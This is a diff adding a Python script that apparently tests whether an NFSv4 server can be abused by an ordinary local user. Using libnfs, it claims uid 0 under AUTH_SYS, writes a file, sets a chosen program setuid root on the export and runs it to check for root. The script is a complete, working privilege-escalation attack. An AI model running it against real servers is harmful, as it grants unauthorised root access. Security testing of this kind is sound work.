@@ -1,0 +1,89 @@
+"""What an ordinary user of the PC can try against an NFS server: become root by a setuid program in the tree.
+
+    python3 intruder.py ADDRESS PORT TREE PROGRAM
+
+As user id 0 (AUTH_SYS takes the client's word for it): write a file into the tree, and make ``PROGRAM`` there setuid
+root; then execute it by its path on this machine. Not the written file: the server keeps that open for a minute, and a
+file that is open for writing cannot be executed. Prints one line of JSON: ``user`` (who tried), what worked
+(``mounted``, ``written``, ``setuid``, ``executed``), and ``said``, the complaints.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import ctypes.util
+import json
+import os
+import subprocess
+import sys
+
+_LIMIT_MS = 10_000
+_CONTENT = b"written by an ordinary user"
+
+
+class Server:
+    """An NFSv4 server, by libnfs (the library comes with libnfs-utils)."""
+
+    def __init__(self, address: str, port: str, tree: str) -> None:
+        self._library = ctypes.CDLL(ctypes.util.find_library("nfs"))
+        self._library.nfs_init_context.restype = ctypes.c_void_p
+        self._library.nfs_get_error.restype = ctypes.c_char_p
+        self._library.nfs_parse_url_dir.restype = ctypes.POINTER(ctypes.c_char_p * 3)
+        self._context = ctypes.c_void_p(self._library.nfs_init_context())
+        self._library.nfs_set_timeout(self._context, _LIMIT_MS)
+        url = f"nfs://{address}{tree}?version=4&nfsport={port}&uid=0&gid=0"
+        self._server, self._path, _ = self._library.nfs_parse_url_dir(self._context, url.encode()).contents
+
+    def mount(self) -> None:
+        """Become a client."""
+        self._done(self._library.nfs_mount(self._context, self._server, self._path))
+
+    def write(self, name: str) -> None:
+        """Make a file."""
+        handle = ctypes.c_void_p()
+        flags = os.O_CREAT | os.O_WRONLY
+        self._done(self._library.nfs_open2(self._context, f"/{name}".encode(), flags, 0o755, ctypes.byref(handle)))
+        self._done(self._library.nfs_write(self._context, handle, ctypes.c_uint64(len(_CONTENT)), _CONTENT))
+        self._done(self._library.nfs_close(self._context, handle))
+
+    def make_setuid(self, name: str) -> None:
+        """Make a file setuid."""
+        self._done(self._library.nfs_chmod(self._context, f"/{name}".encode(), 0o4755))
+
+    def _done(self, status: int) -> None:
+        if status < 0:
+            raise OSError(self._library.nfs_get_error(self._context).decode(errors="replace"))
+
+
+def execute(program: str) -> None:
+    """Run id(1) from there; an error unless it runs as root."""
+    done = subprocess.run([program], capture_output=True, text=True, check=True)
+    if "euid=0" not in done.stdout:
+        raise OSError(f"it ran as {done.stdout}")
+
+
+def main(address: str, port: str, tree: str, program: str) -> None:
+    """Try, and print what worked."""
+    server = Server(address, port, tree)
+    found: dict[str, object] = {"user": os.geteuid()}
+    said = []
+    for what, step in (
+        ("mounted", server.mount),
+        ("written", lambda: server.write("left-by-an-intruder")),
+        ("setuid", lambda: server.make_setuid(program)),
+        ("executed", lambda: execute(f"{tree}/{program}")),
+    ):
+        found[what] = False
+        if said and what != "executed":
+            continue  # without a mount, the library waits for ever
+        try:
+            step()
+        except (OSError, subprocess.CalledProcessError) as fault:
+            said.append(f"{what}: {fault}")
+        else:
+            found[what] = True
+    print(json.dumps({**found, "said": said}))
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
